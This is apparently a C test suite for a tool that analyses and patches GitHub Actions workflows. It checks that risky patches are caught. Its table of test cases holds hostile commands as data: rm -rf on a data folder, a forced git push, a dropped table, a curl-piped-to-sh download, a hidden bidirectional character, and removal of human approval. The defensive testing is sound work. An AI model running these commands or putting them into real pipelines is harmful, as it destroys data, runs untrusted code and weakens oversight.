/* Patches through the four phases, on a real repository, a real database and a real sandbox. */
#include "analysis/analysis.h"
#include "world.h"

static const char CI[] = "name: CI\n"
                         "on:\n"
                         "  push:\n"
                         "    branches: [main]\n"
                         "permissions:\n"
                         "  contents: read\n"
                         "jobs:\n"
                         "  build:\n"
                         "    runs-on: ubuntu-24.04\n"
                         "    timeout-minutes: 10\n"
                         "    strategy:\n"
                         "      matrix:\n"
                         "        node: [20, 22]\n"
                         "    outputs:\n"
                         "      version: ${{ steps.v.outputs.version }}\n"
                         "    steps:\n"
                         "      - id: v\n"
                         "        run: echo \"version=1\" >> \"$GITHUB_OUTPUT\"\n"
                         "      - run: make test\n"
                         "      - uses: actions/upload-artifact@" PIN "\n"
                         "        with:\n"
                         "          name: dist\n"
                         "          path: dist\n"
                         "  deploy:\n"
                         "    needs: build\n"
                         "    runs-on: ubuntu-24.04\n"
                         "    timeout-minutes: 5\n"
                         "    environment: production\n"
                         "    steps:\n"
                         "      - run: echo \"${{ needs.build.outputs.version }}\"\n";

static const char AFTER[] = "name: After\n"
                            "on:\n"
                            "  workflow_run:\n"
                            "    workflows: [CI]\n"
                            "permissions: {}\n"
                            "jobs:\n"
                            "  tell:\n"
                            "    runs-on: ubuntu-20.04\n"
                            "    steps:\n"
                            "      - run: echo done\n"
                            "  too:\n"
                            "    runs-on: ubuntu-20.04\n"
                            "    steps:\n"
                            "      - run: echo done\n";

static const char SUITE[] = "echo TAP version 13; echo 1..2; echo ok 1 - adds; echo ok 2 - takes\n";

static const world_file FILES[] = {
    {".github/workflows/after.yml", AFTER}, {".github/workflows/ci.yml", CI}, {"suite.sh", SUITE}};

static void analyse(world *w)
{
    wpa_error err = {0};
    wpa_analysis_summary summary;
    const wpa_analysis_request request = {
        .workflow_id =
            wpa_test_sql_int(w->pg, 0, "SELECT id FROM wpa.workflow WHERE path LIKE '%after.yml'"),
        .dimension = WPA_DIMENSION_ALL};
    assert_true(wpa_analysis_run(w->db, w->git, &w->engine, &request, w->arena, &summary, &err));
}

static int open_world(void **state)
{
    int failed = world_open(state, FILES, WPA_COUNT(FILES));
    analyse(*state);
    return failed;
}

/* The first action has no runtime any more, and behind that goes untold that it is old; the second
   is old alone. */
static const char OLD[] = "name: After\n"
                          "on: push\n"
                          "permissions: {}\n"
                          "jobs:\n"
                          "  tell:\n"
                          "    runs-on: ubuntu-24.04\n"
                          "    timeout-minutes: 5\n"
                          "    steps:\n"
                          "      - uses: actions/checkout@v3\n"
                          "      - uses: tj-actions/changed-files@v35\n";

static const world_file OLD_FILES[] = {
    {".github/workflows/after.yml", OLD}, {".github/workflows/ci.yml", CI}, {"suite.sh", SUITE}};

static int open_old_world(void **state)
{
    int failed = world_open(state, OLD_FILES, WPA_COUNT(OLD_FILES));
    analyse(*state);
    return failed;
}

static int64_t finding_of(world *w, const char *rule, const char *word)
{
    return wpa_test_sql_int(w->pg, 0,
                            wpa_arena_printf(w->arena,
                                             "SELECT id FROM wpa.finding WHERE state = 'open' AND "
                                             "rule = '%s' AND message LIKE '%%%s%%'",
                                             rule, word));
}

/* The first action goes to the least version that runs, which is old itself: that is no answered
   finding that is still there. */
static void a_fix_that_uncovers_another_is_tested(void **state)
{
    world *w = *state;
    wpa_error err = {0};
    wpa_patch_draft draft;
    const int64_t ids[] = {
        finding_of(w, "node-runtime", "checkout"),
        finding_of(w, "outdated-action-major", "changed-files"),
    };
    assert_true(wpa_patch_draft_findings(w->db, ids, WPA_COUNT(ids), NULL, w->folder, w->arena,
                                         &draft, &err));
    assert_int_equal(draft.n_findings, WPA_COUNT(ids));
    int64_t patch = store(w, &draft);
    work(w);
    assert_null(strstr(checks_with(w, patch, "fail"), "T102"));
    assert_non_null(strstr(checks_with(w, patch, "pass"), "T102"));
}

/* The file has two equal findings, of which the patch answers one. */
static void a_fix_is_tested(void **state)
{
    world *w = *state;
    wpa_error err = {0};
    wpa_patch_draft draft;
    int64_t finding =
        wpa_test_sql_int(w->pg, 0, "SELECT min(id) FROM wpa.finding WHERE rule = 'retired-runner'");
    assert_true(
        wpa_patch_draft_findings(w->db, &finding, 1, NULL, w->folder, w->arena, &draft, &err));
    int64_t patch = store(w, &draft);
    work(w);
    if (strcmp("tested", ask(w, patch, "p.state")) != 0) {
        show_failures(w, patch);
        fail();
    }
    assert_string_equal("true", ask(w, patch, "(p.tested_digest = p.digest)::text"));
    assert_string_equal("passed", ask(w, patch, "r.state"));
    assert_string_equal("true", ask(w, patch, "(r.checks_done = r.checks_total)::text"));
    assert_string_equal("", checks_with(w, patch, "fail"));
    assert_non_null(strstr(checks_with(w, patch, "pass"), "T102"));
    assert_string_equal("true",
                        ask(w, patch, "p.report #>> '{safety_checks,checks,no_data_loss}'"));
    assert_string_equal("true", ask(w, patch, "p.report #>> '{isolated_tests,passed}'"));
    assert_string_equal("null", ask(w, patch, "p.report #> '{compatibility_checks,passed}'"));
    assert_string_equal("null",
                        ask(w, patch, "p.report #> '{isolated_tests,coverage_percentage}'"));
    if (w->has_sandbox) {
        assert_string_equal("2", ask(w, patch, "p.report #>> '{isolated_tests,cases_run}'"));
    }
    assert_string_equal("null", ask(w, patch, "p.confidence -> 'lower_bound'"));
    /* No ref has moved. */
    char oid[WPA_OID_SIZE];
    assert_true(wpa_git_ref_read(w->git, "refs/heads/main", oid, &err));
    assert_string_equal(draft.files[0].base, oid);
}

static const struct {
    const char *title;
    const char *from, *to; /* in CI */
    const char *fails;     /* ids of checks, or NULL: it passes */
    bool needs_sandbox;
} cases[] = {
    {"a longer timeout", "timeout-minutes: 10", "timeout-minutes: 12", NULL, false},
    {"no YAML any more", "jobs:\n  build:", "jobs:\n\tbuild: [", "T004 T101", false},
    {"a circle of jobs", "    timeout-minutes: 10", "    needs: deploy\n    timeout-minutes: 10",
     "T103", false},
    {"a step id lost", "id: v\n", "id: w\n", "T103", false},
    {"an output lost", "      version: ${{ steps.v.outputs.version }}\n",
     "      revision: ${{ steps.v.outputs.version }}\n", "T103", false},
    {"a matrix value lost", "node: [20, 22]", "node: [20]", "T104 T202", false},
    {"a script that does not parse", "run: make test", "run: if make test", "T106", true},
    {"another command", "run: make test", "run: make tests", "T106", false},
    {"a job renamed", "  deploy:\n", "  ship:\n", "T202", false},
    {"a workflow renamed that another awaits", "name: CI", "name: Build", "T203", false},
    {"deletes outside", "run: make test", "run: make test && rm -rf /srv/data", "S1", false},
    {"a variable leads outside", "run: make test", "run: d=/srv/data; make test; rm -rf \"$d\"",
     "S1", false},
    {"deletes inside the work folder only", "run: make test", "run: rm -rf build && make test",
     "T106", false},
    {"a forced push", "run: make test", "run: make test && git push --force", "S1", false},
    {"a table dropped", "run: make test", "run: make test && psql -c 'DROP TABLE a'", "S1", false},
    {"an upload removed",
     "      - uses: actions/upload-artifact@" PIN
     "\n        with:\n          name: dist\n          path: dist\n",
     "", "S1", false},
    {"an upload made conditional", "      - uses: actions/upload-artifact",
     "      - if: failure()\n        uses: actions/upload-artifact", "S1", false},
    {"a wider token", "contents: read", "contents: write", "S4", false},
    {"a dangerous trigger", "  push:\n", "  pull_request_target:\n  push:\n", "S4", false},
    {"a download run", "run: make test", "run: make test && curl -s https://x.example/i | sh", "S4",
     false},
    {"a third-party action", "      - run: make test",
     "      - uses: someone/thing@" PIN "\n      - run: make test", "S4", false},
    {"a hidden character", "run: make test", "run: make test # \u202e", "S4", false},
    {"an approval by people lost", "    environment: production\n", "", "S5", false},
    {"a failure swallowed", "run: make test", "run: make test || true", "S5", false},
    {"a step that may fail", "      - run: make test",
     "      - continue-on-error: true\n        run: make test", "S5", false},
    {"a test removed", "      - run: make test\n", "", "S5", false},
    {"indented under another key", "    environment: production\n",
     "    env:\n      environment: production\n", "S5", false},
};

static void what_a_patch_breaks_is_found(void **state)
{
    world *w = *state;
    bool is_whole = true;
    for (size_t i = 0; i < WPA_COUNT(cases); i++) {
        if (cases[i].needs_sandbox && !w->has_sandbox) {
            is_whole = false;
            continue;
        }
        print_message("%s\n", cases[i].title);
        const char *text = replace(w, CI, cases[i].from, cases[i].to);
        int64_t patch = store_content(w, ".github/workflows/ci.yml", text);
        work(w);
        const char *failed = checks_with(w, patch, "fail");
        bool is_right = strcmp(ask(w, patch, "p.state"), cases[i].fails ? "failed" : "tested") == 0;
        for (const char *at = cases[i].fails; at && *at; at += strspn(at, " ")) {
            char id[8] = {0};
            size_t length = strcspn(at, " ");
            memcpy(id, at, length);
            is_right = is_right && strstr(failed, id);
            at += length;
        }
        if (!is_right) {
            show_failures(w, patch);
            fail();
        }
        assert_string_equal("", checks_with(w, patch, "error"));
        if (cases[i].fails) {
            assert_string_equal("test_failed", ask(w, patch, "p.reason"));
        }
    }
    if (!is_whole) {
        print_message("skipped: no sandbox here for what its own tests find\n");
        skip();
    }
}

static void the_repository_s_own_tests_are_run(void **state)
{
    world *w = *state;
    if (!w->has_sandbox) {
        print_message("skipped: no sandbox here\n");
        skip();
    }
    int64_t patch =
        store_content(w, "suite.sh", "echo 1..2; echo ok 1 - adds; echo not ok 2 - takes\n");
    work(w);
    assert_string_equal("failed", ask(w, patch, "p.state"));
    assert_string_equal("T112", checks_with(w, patch, "fail"));
    assert_string_equal("1", ask(w, patch, "p.report #>> '{isolated_tests,cases_failed}'"));

    patch =
        store_content(w, "suite.sh", "echo 1..2; echo ok 1 - adds; echo ok 2 - takes '# SKIP'\n");
    work(w);
    assert_string_equal("tested", ask(w, patch, "p.state"));
    assert_string_equal("T112", checks_with(w, patch, "warn"));
}

static void a_moved_branch_is_noticed(void **state)
{
    world *w = *state;
    wpa_error err = {0};
    char head[WPA_OID_SIZE], commit[WPA_OID_SIZE], before[WPA_OID_SIZE], after[WPA_OID_SIZE];
    const char *text = replace(w, CI, "timeout-minutes: 10", "timeout-minutes: 11");
    int64_t patch = store_content(w, ".github/workflows/ci.yml", text);
    const char *moved = replace(w, CI, "timeout-minutes: 5", "timeout-minutes: 6");
    assert_true(wpa_git_blob_id(CI, strlen(CI), before, &err));
    assert_true(wpa_git_blob_id(moved, strlen(moved), after, &err));
    const wpa_git_edit edit = {.path = ".github/workflows/ci.yml",
                               .before = before,
                               .after = after,
                               .bytes = moved,
                               .size_bytes = strlen(moved)};
    const wpa_git_identity who = {"Ann", "ann@example.org", 1700000100};
    assert_true(wpa_git_ref_read(w->git, "refs/heads/main", head, &err));
    assert_true(wpa_git_commit_make(w->git, head, &edit, 1, &who, "second", commit, &err));
    assert_true(wpa_git_ref_swap(w->git, "refs/heads/main", head, commit, &err));
    work(w);
    assert_non_null(strstr(checks_with(w, patch, "fail"), "T001"));
    assert_true(wpa_git_ref_swap(w->git, "refs/heads/main", commit, head, &err));
}

static void what_a_dead_agent_left_is_ended(void **state)
{
    world *w = *state;
    const char *text = replace(w, CI, "timeout-minutes: 10", "timeout-minutes: 13");
    int64_t patch = store_content(w, ".github/workflows/ci.yml", text);
    wpa_test_sql_value(
        w->pg, w->engine.principal_id, w->arena,
        wpa_arena_printf(w->arena,
                         "WITH p AS (UPDATE wpa.patch SET state = 'testing', attempt = 1 WHERE id "
                         "= %lld RETURNING id, digest) INSERT INTO wpa.test_run (patch_id, digest) "
                         "SELECT id, digest FROM p RETURNING id",
                         (long long)patch));
    work(w);
    assert_string_equal("tested", ask(w, patch, "p.state"));
    assert_int_equal(1, wpa_test_sql_int(w->pg, 0,
                                         "SELECT count(*) FROM wpa.test_run WHERE state = "
                                         "'cancelled'"));
}

static void what_cannot_be_reached_is_an_error(void **state)
{
    world *w = *state;
    const char *text = replace(w, CI, "timeout-minutes: 10", "timeout-minutes: 14");
    int64_t patch = store_content(w, ".github/workflows/ci.yml", text);
    wpa_test_sql_value(w->pg, w->guardian.principal_id, w->arena,
                       "UPDATE wpa.repository SET url = '/nowhere' RETURNING 1");
    for (int attempt = 1; attempt <= 3; attempt++) {
        wpa_test_sql_value(w->pg, 0, w->arena,
                           "UPDATE wpa.job SET run_after = clock_timestamp() RETURNING 1");
        assert_string_equal("pending",
                            wpa_test_sql_value(w->pg, 0, w->arena,
                                               wpa_arena_printf(w->arena,
                                                                "SELECT state FROM wpa.patch WHERE "
                                                                "id = %lld",
                                                                (long long)patch)));
        work(w);
    }
    assert_string_equal("failed test_error", ask(w, patch, "p.state || ' ' || p.reason"));
}

int main(void)
{
    wpa_test_pg_need();
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_fix_is_tested),
        cmocka_unit_test(what_a_patch_breaks_is_found),
        cmocka_unit_test(the_repository_s_own_tests_are_run),
        cmocka_unit_test(a_moved_branch_is_noticed),
        cmocka_unit_test(what_a_dead_agent_left_is_ended),
        cmocka_unit_test(what_cannot_be_reached_is_an_error),
    };
    const struct CMUnitTest old_tests[] = {
        cmocka_unit_test(a_fix_that_uncovers_another_is_tested),
    };
    int failed = cmocka_run_group_tests(tests, open_world, close_world);
    return failed + cmocka_run_group_tests(old_tests, open_old_world, close_world);
}
